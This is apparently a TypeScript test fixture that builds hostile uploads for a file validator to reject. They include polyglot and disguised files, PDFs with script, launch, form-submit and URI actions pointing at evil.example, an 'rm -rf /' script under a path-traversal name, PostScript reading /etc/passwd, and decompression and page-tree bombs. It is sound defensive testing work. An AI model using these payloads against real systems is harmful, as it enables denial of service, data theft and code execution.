import { deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { largestOf, mostPages } from '../limits';
import {
  box,
  film,
  heic,
  jpeg,
  lockedPdf,
  moov,
  pdf,
  pdfWith,
  png,
  webp,
  writtenPdf,
} from './good-files';

/** A file that must not be kept. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: () => Buffer | Promise<Buffer>;
  /** The reasons that say so. */
  readonly reasons: readonly string[];
  readonly accepts?: readonly string[];
  /** Looking into it takes many seconds, wherever it is kept: it is tried in one storage. */
  readonly isLong?: true;
}

/** The test file of anti-virus programs, which is no file of ours while it stands here in parts. */
export const eicar = [
  'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR',
  '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
].join('');

const zipEnd = Buffer.from('504b0506000000000000000000000000000000000000', 'hex');
const zip = Buffer.concat([Buffer.from('504b0304140000000800', 'hex'), Buffer.alloc(40), zipEnd]);
const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2));
/** Made once for both storages: it takes seconds. */
function once(make: () => Buffer): () => Buffer {
  let made: Buffer | undefined;
  return () => {
    made ??= make();
    return made;
  };
}

const any = ['PICTURE', 'PDF', 'VIDEO'];

/** A stream object of a PDF. */
function stream(dictionary: string, content: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${content.length}>>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);
}

/** Objects, by their number, in a compressed object stream, as a reader of PDF 1.5 finds them. */
function objectStream(objects: Readonly<Record<number, string>>): Buffer {
  let at = 0;
  const entries = Object.entries(objects);
  const index = entries
    .map(([number, object]) => {
      const place = `${number} ${at}`;
      at += object.length + 1;
      return place;
    })
    .join(' ');
  const content = deflateSync(`${index} ${entries.map(([, object]) => object).join(' ')} `);
  const first = index.length + 1;
  return stream(`/Type/ObjStm/N ${entries.length}/First ${first}/Filter/FlateDecode`, content);
}

/** A picture of so many pixels, by what its header says. */
function pngOf(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const end = Buffer.alloc(4);
    end.writeUInt32BE(crc(body));
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, body, end]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc(bytes: Buffer): number {
  let value = ~0;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit++) value = (value >>> 1) ^ (0xedb88320 & -(value & 1));
  }
  return ~value >>> 0;
}

/** A JPEG with another size in its header. */
async function jpegOf(width: number, height: number): Promise<Buffer> {
  const bytes = await jpeg();
  const at = bytes.findIndex((byte, index) => byte === 0xff && bytes[index + 1] === 0xc0);
  bytes.writeUInt16BE(height, at + 5);
  bytes.writeUInt16BE(width, at + 7);
  return bytes;
}

async function patchedHeic(): Promise<Buffer> {
  const bytes = Buffer.from(heic);
  const at = bytes.indexOf('ispe');
  bytes.writeUInt32BE(60_000, at + 8);
  bytes.writeUInt32BE(60_000, at + 12);
  return bytes;
}

async function encryptedPdf(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  document.encrypt({ userPassword: 'open', ownerPassword: 'sesame' });
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** A tree of pages whose nodes stand in it again and again: few objects, a million million pages. */
function laughingPages(): Buffer {
  const levels = 12;
  const nodes = Array.from(
    { length: levels },
    (_, level) => `<</Type/Pages/Count 1/Kids[${`${level + 3} 0 R `.repeat(10)}]>>`,
  );
  return writtenPdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    ...nodes,
    '<</Type/Page/MediaBox[0 0 9 9]>>',
  ]);
}

/** A million real pages, in a stream that is small while nobody reads it. */
function millionPages(): Buffer {
  const count = 1_000_000;
  const kids = Array.from({ length: count }, (_, at) => `${at + 10} 0 R`).join(' ');
  const pages = Object.fromEntries(
    Array.from({ length: count }, (_, at) => [at + 10, '<</Type/Page>>']),
  );
  return writtenPdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Count ${count}/Kids 4 0 R>>`,
    objectStream(pages),
    `[${kids}]`,
  ]);
}

/** Two thousand million blanks, which two megabytes say. */
/** A PDF of which two megabytes become two thousand. */
export function memoryBomb(): Buffer {
  const block = Buffer.alloc(16 * 1024 * 1024, 0x20);
  // Blocks that end at a byte can stand one behind another.
  const flushed = deflateRawSync(block, { finishFlush: 2 });
  const content = Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: 128 }, () => flushed),
    deflateRawSync(Buffer.alloc(0)),
    Buffer.alloc(4),
  ]);
  return pdfWith({}, stream('/Type/ObjStm/N 1/First 5/Filter/FlateDecode', content));
}

const action = (of: string) => pdfWith({ catalog: `/OpenAction ${of}` });
const annotation = (of: string) => pdfWith({ page: `/Annots[<</Type/Annot/Rect[0 0 9 9]${of}>>]` });

function trailerCatalog(): Buffer {
  const catalog = '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>';
  const whole = pdfWith({}).toString('latin1');
  return Buffer.from(whole.replace('/Root 1 0 R', `/Root${catalog}`), 'latin1');
}

export const hostileFiles: readonly HostileFile[] = [
  ...(
    [
      ['a program of Windows', 'a.jpg', Buffer.from(`MZ${'\0'.repeat(200)}PE`)],
      ['a program of Linux', 'a.pdf', Buffer.from('7f454c4602010100', 'hex')],
      ['a page with a script', 'a.pdf', Buffer.from('<!doctype html><script>alert(1)</script>')],
      [
        'a drawing with a script',
        'a.jpg',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      ],
      [
        'a drawing called a picture',
        'a.png',
        Buffer.from(
          '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ),
      ],
      ['text', 'a.jpg', Buffer.from('just words')],
      ['the test file of anti-virus programs', 'a.pdf', Buffer.from(eicar)],
      ['an archive', 'a.pdf', zip],
      ['a script of a shell', '../../a.sh', Buffer.from('#!/bin/sh\nrm -rf /\n')],
      [
        'a picture of a kind that is not taken',
        'a.jpg',
        Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'),
      ],
      ['a bitmap', 'a.png', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])],
      ['a TIFF', 'a.jpg', Buffer.from('49492a0008000000000000000000', 'hex')],
      ['a document of an office', 'a.pdf', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
      ['PostScript', 'a.pdf', Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) run\n')],
      [
        'a PDF behind something else',
        'a.pdf',
        Buffer.concat([Buffer.from('\n\nhello '), pdfWith({})]),
      ],
    ] as const
  ).map(([what, name, bytes]) => ({ what, name, bytes: () => bytes, reasons: ['TYPE'] })),
  {
    what: 'a film called a picture where none is asked for',
    name: 'a.jpg',
    bytes: () => film('isom', Buffer.alloc(99)),
    reasons: ['NO_VIDEO'],
  },
  {
    what: 'half a JPEG',
    name: 'a.jpg',
    bytes: async () => half(await jpeg()),
    reasons: ['UNREADABLE'],
  },
  {
    what: 'half a PNG',
    name: 'a.png',
    bytes: async () => half(await png()),
    reasons: ['UNREADABLE'],
  },
  {
    what: 'half a WebP',
    name: 'a.webp',
    bytes: async () => half(await webp()),
    reasons: ['UNREADABLE'],
  },
  { what: 'half a HEIC', name: 'a.heic', bytes: () => half(heic), reasons: ['UNREADABLE'] },
  {
    what: 'a JPEG of noise',
    name: 'a.jpg',
    bytes: () => Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.alloc(5000, 0x5a)]),
    reasons: ['UNREADABLE'],
  },
  {
    what: 'a PNG of 900 million pixels',
    name: 'a.png',
    bytes: () => pngOf(30_000, 30_000),
    reasons: ['TOO_MANY_PIXELS'],
  },
  {
    what: 'a JPEG of 4,000 million pixels',
    name: 'a.jpg',
    bytes: () => jpegOf(65_000, 65_000),
    reasons: ['TOO_MANY_PIXELS'],
  },
  {
    what: 'a HEIC of 3,600 million pixels',
    name: 'a.heic',
    bytes: patchedHeic,
    reasons: ['TOO_MANY_PIXELS', 'UNREADABLE', 'TOO_COMPLEX'],
  },
  {
    what: 'a JPEG that is an archive',
    name: 'a.jpg',
    bytes: async () => Buffer.concat([await jpeg(), zip]),
    reasons: ['TWO_TYPES'],
  },
  {
    what: 'a JPEG that is a PDF',
    name: 'a.jpg',
    bytes: async () => withComment(await jpeg(), '%PDF-1.7 1 0 obj'),
    reasons: ['TWO_TYPES'],
  },
  {
    what: 'a JPEG that is a page',
    name: 'a.jpg',
    bytes: async () => withComment(await jpeg(), '<script>alert(1)</script>'),
    reasons: ['TWO_TYPES'],
  },
  {
    what: 'a page that begins like a PDF',
    name: 'a.pdf',
    bytes: () => Buffer.from('%PDF<script>alert(1)</script>'),
    reasons: ['TWO_TYPES', 'TYPE'],
  },
  {
    what: 'a PDF with a page in its first lines',
    name: 'a.pdf',
    bytes: () =>
      Buffer.concat([
        Buffer.from('%PDF-1.7\n%<html><script>alert(1)</script>\n'),
        pdfWith({}).subarray(9),
      ]),
    reasons: ['TWO_TYPES'],
  },
  {
    what: 'a PDF that is an archive',
    name: 'a.pdf',
    bytes: async () => Buffer.concat([await pdf(), zip]),
    reasons: ['TWO_TYPES'],
  },
  {
    what: 'a PDF that runs a script when it is opened',
    name: 'a.pdf',
    bytes: () => action('<</S/JavaScript/JS(app.alert(1))>>'),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF whose script has an escaped name',
    name: 'a.pdf',
    bytes: () => action('<</S/J#61v#61Script/J#53(app.alert(1))>>'),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF whose script stands in an object stream',
    name: 'a.pdf',
    bytes: () =>
      pdfWith(
        { catalog: '/OpenAction 9 0 R' },
        objectStream({ 9: '<</S/JavaScript/JS(app.alert(1))>>' }),
      ),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF whose script has an escaped name in an object stream',
    name: 'a.pdf',
    bytes: () =>
      pdfWith(
        { catalog: '/OpenAction 9 0 R' },
        objectStream({ 9: '<</#53/Java#53cript/J#53(1)>>' }),
      ),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF whose kind of action stands elsewhere',
    name: 'a.pdf',
    bytes: () => pdfWith({ catalog: '/OpenAction<</S 4 0 R/X(app.alert(1))>>' }, '/JavaScript'),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF whose page runs a script',
    name: 'a.pdf',
    bytes: () => pdfWith({ page: '/AA<</O<</S/JavaScript/JS(1)>>>>' }),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF with scripts by name',
    name: 'a.pdf',
    bytes: () =>
      pdfWith({ catalog: '/Names<</JavaScript<</Names[(a)4 0 R]>>>>' }, '<</S/JavaScript/JS(1)>>'),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF that starts a program',
    name: 'a.pdf',
    bytes: () => action('<</S/Launch/F(cmd.exe)>>'),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF that sends what is typed',
    name: 'a.pdf',
    bytes: () => action('<</S/SubmitForm/F(https://evil.example)>>'),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF that opens another',
    name: 'a.pdf',
    bytes: () => action('<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>'),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF with a link that is a script',
    name: 'a.pdf',
    bytes: () => annotation('/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>'),
    reasons: ['SCRIPT'],
  },
  ...(
    [
      ['whose catalog stands in its trailer', trailerCatalog(), ['UNREADABLE']],
      [
        'whose trailer holds a script',
        Buffer.from(
          pdfWith({})
            .toString('latin1')
            .replace('/Root 1 0 R', '/Root 1 0 R/Info<</S/JavaScript>>'),
          'latin1',
        ),
        ['SCRIPT'],
      ],
      [
        'with a script behind a chain of references',
        pdfWith({ catalog: '/OpenAction<</S 4 0 R>>' }, '5 0 R', '/JavaScript'),
        ['UNREADABLE'],
      ],
      [
        'of which one object is there in two generations',
        pdfWith({ catalog: '/OpenAction<</S 4 0 R>>' }, '/GoTo\nendobj\n4 1 obj\n/JavaScript'),
        ['UNREADABLE'],
      ],
      ['whose action is not there', action('<</S 9 0 R>>'), ['UNREADABLE']],
      ['that opens an address', action('<</S/URI/URI(https://evil.example)>>'), ['SCRIPT']],
      [
        'that opens an address after something else',
        action('<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(https://evil.example)>>]>>'),
        ['SCRIPT'],
      ],
      [
        'with a page that opens an address',
        pdfWith({ page: '/AA<</O 4 0 R>>' }, '<</S/URI/URI(https://evil.example)>>'),
        ['SCRIPT'],
      ],
      [
        'with a link into the network',
        annotation('/Subtype/Link/A<</S/URI/URI(\\\\\\\\evil\\\\share)>>'),
        ['SCRIPT'],
      ],
      [
        'whose links begin in the network',
        pdfWith({
          catalog: '/URI<</Base(file://evil/share/)>>',
          page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://a.example)>>>>]',
        }),
        ['SCRIPT'],
      ],
      ['with a link that has no beginning', annotation('/A<</S/URI/URI(www.x)>>'), ['SCRIPT']],
      [
        'with a picture from elsewhere',
        pdfWith(
          {},
          stream('/Subtype/Form/OPI<</2.0<</F(\\\\\\\\evil\\\\x.tif)>>>>', Buffer.from('x')),
        ),
        ['ATTACHMENT'],
      ],
      ...['/TimeStamp', '/Cert'].map(
        (asked) =>
          [
            `signed elsewhere: ${asked}`,
            pdfWith(
              { catalog: '/AcroForm<</Fields[4 0 R]>>' },
              `<</FT/Sig/T(a)/SV 5 0 R>>`,
              `<</Type/SV${asked} 6 0 R>>`,
              '<</URL(http://evil.example)>>',
            ),
            ['SCRIPT'],
          ] as const,
      ),
      [
        'that fetches pages',
        pdfWith({ catalog: '/SpiderInfo<</V 1.0/C[<</URL(http://evil.example)>>]>>' }),
        ['ATTACHMENT'],
      ],
      [
        'that asks for scripts',
        pdfWith({ catalog: '/Requirements[<</S/EnableJavaScripts>>]' }),
        ['SCRIPT'],
      ],
      ['with a link to a program', annotation('/A<</S/URI/URI(evil.exe)>>'), ['SCRIPT']],
      ['that reads another one', action('<</S/Thread/F(\\\\\\\\evil\\\\a)/D 0>>'), ['SCRIPT']],
      [
        'with a page of another one',
        pdfWith({}, stream('/Subtype/Form/Ref<</F(b.pdf)/Page 0>>', Buffer.from('x'))),
        ['ATTACHMENT'],
      ],
      [
        'with something that is fetched',
        pdfWith({}, '<</Type/Filespec/FS/URL/F(https://evil.example)>>'),
        ['ATTACHMENT'],
      ],
    ] as const
  ).map(([what, bytes, reasons]) => ({
    what: `a PDF ${what}`,
    name: 'a.pdf',
    bytes: () => bytes,
    reasons,
  })),
  {
    what: 'a PDF with a file in it',
    name: 'a.pdf',
    bytes: () =>
      pdfWith(
        { catalog: '/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>' },
        '<</Type/Filespec/F(a.exe)>>',
      ),
    reasons: ['ATTACHMENT'],
  },
  {
    what: 'a PDF with a file pinned to it',
    name: 'a.pdf',
    bytes: () => annotation('/Subtype/FileAttachment'),
    reasons: ['ATTACHMENT'],
  },
  {
    what: 'a PDF with a file that nothing leads to',
    name: 'a.pdf',
    bytes: () => pdfWith({}, stream('/Type/EmbeddedFile', Buffer.from(eicar))),
    reasons: ['ATTACHMENT'],
  },
  {
    what: 'a PDF whose content stands in another file',
    name: 'a.pdf',
    bytes: () => pdfWith({ page: '/Contents 4 0 R' }, stream('/F(/etc/passwd)', Buffer.from('x'))),
    reasons: ['ATTACHMENT'],
  },
  {
    what: 'a PDF that is a folder of files',
    name: 'a.pdf',
    bytes: () => pdfWith({ catalog: '/Collection<</View/D>>' }),
    reasons: ['ATTACHMENT'],
  },
  {
    what: 'a PDF that plays something',
    name: 'a.pdf',
    bytes: () => annotation('/Subtype/RichMedia'),
    reasons: ['ATTACHMENT'],
  },
  {
    what: 'a PDF whose forms are programs',
    name: 'a.pdf',
    bytes: () => pdfWith({ catalog: '/AcroForm<</XFA 4 0 R>>' }, stream('', Buffer.from('<xdp/>'))),
    reasons: ['FORM'],
  },
  { what: 'an encrypted PDF', name: 'a.pdf', bytes: encryptedPdf, reasons: ['ENCRYPTED'] },
  {
    what: 'a PDF whose owner has locked it, with a script',
    name: 'a.pdf',
    bytes: () =>
      lockedPdf('AES-256', (document) => document.addJavaScript('start', 'app.alert(1)')),
    reasons: ['SCRIPT'],
  },
  {
    what: 'a PDF behind more than blanks',
    name: 'a.pdf',
    bytes: async () => Buffer.concat([Buffer.from('\r\nMZ'), await pdf()]),
    reasons: ['TYPE', 'TWO_TYPES'],
  },
  { what: 'half a PDF', name: 'a.pdf', bytes: () => half(pdfWith({})), reasons: ['UNREADABLE'] },
  {
    what: 'a PDF without pages',
    name: 'a.pdf',
    bytes: () => writtenPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 9>>']),
    reasons: ['UNREADABLE'],
  },
  {
    what: 'a PDF whose pages lead in a circle',
    name: 'a.pdf',
    bytes: () =>
      writtenPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>']),
    reasons: ['UNREADABLE'],
  },
  {
    what: 'a PDF of one page too many',
    name: 'a.pdf',
    bytes: () => pdf(mostPages + 1),
    reasons: ['TOO_MANY_PAGES'],
  },
  {
    what: 'a PDF whose pages stand in it again and again',
    name: 'a.pdf',
    bytes: laughingPages,
    reasons: ['UNREADABLE', 'TOO_MANY_PAGES'],
  },
  {
    what: 'a PDF of a million pages',
    name: 'a.pdf',
    bytes: once(millionPages),
    reasons: ['TOO_MANY_PAGES', 'TOO_COMPLEX'],
    isLong: true,
  },
  {
    what: 'a PDF of a million lists in one another',
    name: 'a.pdf',
    bytes: () => pdfWith({ page: `/X ${'['.repeat(1_000_000)}` }),
    reasons: ['UNREADABLE'],
  },
  {
    what: 'a film with something behind it',
    name: 'a.mp4',
    bytes: () =>
      Buffer.concat([film('isom', Buffer.alloc(99)), Buffer.from('<script>alert(1)</script>')]),
    reasons: ['TWO_TYPES', 'UNREADABLE'],
    accepts: any,
  },
  {
    what: 'a film that breaks off',
    name: 'a.mp4',
    bytes: () => film('isom', Buffer.alloc(5000)).subarray(0, 3000),
    reasons: ['TWO_TYPES', 'UNREADABLE'],
    accepts: any,
  },
  {
    what: 'a film that nothing describes',
    name: 'a.mov',
    bytes: () =>
      Buffer.concat([box('ftyp', Buffer.from('qt  \0\0\0\0qt  ')), box('mdat', Buffer.alloc(99))]),
    reasons: ['UNREADABLE'],
    accepts: any,
  },
  {
    what: 'a film that is a page',
    name: 'a.mp4',
    bytes: () =>
      Buffer.concat([
        box('ftyp', Buffer.from('isom\0\0\0\0isom')),
        box('free', Buffer.from('<html><script>alert(1)</script>')),
        moov,
      ]),
    reasons: ['TWO_TYPES'],
    accepts: any,
  },
  {
    what: 'a picture of one byte too many that is called a film',
    name: 'a.mp4',
    bytes: async () => padded(await jpeg(), largestOf.PICTURE + 1),
    reasons: ['TOO_LARGE_PICTURE'],
    accepts: any,
  },
];

function withComment(picture: Buffer, text: string): Buffer {
  const comment = Buffer.alloc(4 + text.length);
  comment.writeUInt16BE(0xfffe);
  comment.writeUInt16BE(text.length + 2, 2);
  comment.write(text, 4, 'latin1');
  return Buffer.concat([picture.subarray(0, 2), comment, picture.subarray(2)]);
}

function padded(bytes: Buffer, length: number): Buffer {
  return Buffer.concat([bytes, Buffer.alloc(length - bytes.length)]);
}

/** A file as it is sent, piece by piece. */
export async function* inPieces(...parts: readonly Buffer[]) {
  for (const part of parts)
    for (let at = 0; at < part.length; at += 256 * 1024) yield part.subarray(at, at + 256 * 1024);
}
